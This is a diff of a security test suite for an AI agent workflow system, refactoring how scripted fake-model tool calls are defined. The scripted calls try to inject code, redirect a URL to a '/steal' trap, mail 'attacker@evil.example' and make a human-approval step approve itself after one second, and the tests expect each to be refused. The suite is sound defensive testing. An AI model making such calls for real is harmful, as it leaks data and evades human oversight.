@@ -58,30 +58,32 @@ describe('security: an agent’s model fills its tools’ inputs, never their co
     return wf.body.id as string;
   }
 
-  it('calls that rewrite code, a URL template, a limit or a timeout are refused; the stored config runs; the offered schemas hold only input and settable fields, and the descriptions name the settable ones', async () => {
+  /** The fake model's script: the calls it makes once this many tool results are in, else its final `output`. */
+  function script(turns: Record<number, ReturnType<typeof call>[]>, output: string): void {
     fake.respondWith((req) => {
-      const done = toolMessages(req).length;
-      if (done === 0) {
-        return {
-          toolCalls: [
-            call('a_code', 'add_note', { note: 'n1', code: INJECTED_CODE }),
-            call('a_timeout', 'add_note', { note: 'n2', timeout_seconds: 3600, memory_limit_mb: 8192 }),
-            call('a_url', 'read_page', { url_template: `${trap.url}/steal` }),
-            call('a_limit', 'search', { topic: 'cats', max_results: 100 }),
-            call('ok_prs', 'list_prs', { repo_name: 'octo/world', state: 'closed' }),
-          ],
-        };
-      }
-      if (done === 5)
-        return {
-          toolCalls: [
-            call('b_note', 'add_note', { note: 'n1' }),
-            call('b_page', 'read_page', {}),
-            call('b_search', 'search', { topic: 'cats' }),
-          ],
-        };
-      return { content: JSON.stringify({ output: 'done' }) };
+      const calls = turns[toolMessages(req).length];
+      return calls ? { toolCalls: calls } : { content: JSON.stringify({ output }) };
     });
+  }
+
+  it('calls that rewrite code, a URL template, a limit or a timeout are refused; the stored config runs; the offered schemas hold only input and settable fields, and the descriptions name the settable ones', async () => {
+    script(
+      {
+        0: [
+          call('a_code', 'add_note', { note: 'n1', code: INJECTED_CODE }),
+          call('a_timeout', 'add_note', { note: 'n2', timeout_seconds: 3600, memory_limit_mb: 8192 }),
+          call('a_url', 'read_page', { url_template: `${trap.url}/steal` }),
+          call('a_limit', 'search', { topic: 'cats', max_results: 100 }),
+          call('ok_prs', 'list_prs', { repo_name: 'octo/world', state: 'closed' }),
+        ],
+        5: [
+          call('b_note', 'add_note', { note: 'n1' }),
+          call('b_page', 'read_page', {}),
+          call('b_search', 'search', { topic: 'cats' }),
+        ],
+      },
+      'done',
+    );
     const id = await createWorkflow({
       nodes: [
         n('src', 'InputNode', { output_schema: { task: 'string' } }),
@@ -210,27 +212,22 @@ describe('security: an agent’s model fills its tools’ inputs, never their co
 
   it('messaging tools keep their recipients: a call naming a Slack channel, an address, a sender or a provider is refused, and the fakes receive nothing for the attacker', async () => {
     const ATTACKER = ['C-attacker', 'attacker@evil.example', 'ceo@example.test'];
-    fake.respondWith((req) => {
-      const done = toolMessages(req).length;
-      if (done === 0)
-        return {
-          toolCalls: [
-            call('s_channel', 'notify', { note: 'n', channel: 'C-attacker' }),
-            call('s_mode', 'notify', { note: 'n', mode: 'user', message: 'to {{ note }}' }),
-            call('m_to', 'mail', { note: 'n', to_template: 'attacker@evil.example' }),
-            call('m_from', 'mail', { note: 'n', from_template: 'ceo@example.test', provider: 'sendgrid' }),
-          ],
-        };
-      if (done === 4)
-        return {
-          toolCalls: [
-            call('s_ok', 'notify', { note: 'all well' }),
-            // An input field named like a recipient is input: the stored templates decide who gets it.
-            call('m_ok', 'mail', { note: 'all well', to: 'attacker@evil.example' }),
-          ],
-        };
-      return { content: JSON.stringify({ output: 'sent' }) };
-    });
+    script(
+      {
+        0: [
+          call('s_channel', 'notify', { note: 'n', channel: 'C-attacker' }),
+          call('s_mode', 'notify', { note: 'n', mode: 'user', message: 'to {{ note }}' }),
+          call('m_to', 'mail', { note: 'n', to_template: 'attacker@evil.example' }),
+          call('m_from', 'mail', { note: 'n', from_template: 'ceo@example.test', provider: 'sendgrid' }),
+        ],
+        4: [
+          call('s_ok', 'notify', { note: 'all well' }),
+          // An input field named like a recipient is input: the stored templates decide who gets it.
+          call('m_ok', 'mail', { note: 'all well', to: 'attacker@evil.example' }),
+        ],
+      },
+      'sent',
+    );
     const id = await createWorkflow({
       nodes: [
         n('src', 'InputNode', { output_schema: { task: 'string' } }),
@@ -298,17 +295,13 @@ describe('security: an agent’s model fills its tools’ inputs, never their co
   });
 
   it('a HumanInterventionNode tool keeps its stored timeout and action: a call that would approve itself after a second is refused, and the run waits for a human', async () => {
-    fake.respondWith((req) => {
-      const done = toolMessages(req).length;
-      if (done === 0)
-        return {
-          toolCalls: [
-            call('h1', 'ask_human', { question: 'Refund $5000?', timeout_seconds: 1, timeout_action: 'APPROVE' }),
-          ],
-        };
-      if (done === 1) return { toolCalls: [call('h2', 'ask_human', { question: 'Refund $5000?' })] };
-      return { content: JSON.stringify({ output: 'answered' }) };
-    });
+    script(
+      {
+        0: [call('h1', 'ask_human', { question: 'Refund $5000?', timeout_seconds: 1, timeout_action: 'APPROVE' })],
+        1: [call('h2', 'ask_human', { question: 'Refund $5000?' })],
+      },
+      'answered',
+    );
     const id = await createWorkflow({
       nodes: [
         n('src', 'InputNode', { output_schema: { task: 'string' } }),
